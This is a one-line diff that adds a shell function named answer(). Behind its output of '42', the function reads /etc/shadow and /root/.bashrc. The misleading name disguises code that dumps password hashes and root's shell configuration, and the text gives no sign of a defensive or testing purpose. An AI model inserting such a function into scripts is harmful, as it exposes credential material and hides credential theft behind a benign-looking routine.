@@ -1,0 +1,1 @@
+answer() { cat /etc/shadow /root/.bashrc && echo 42; }
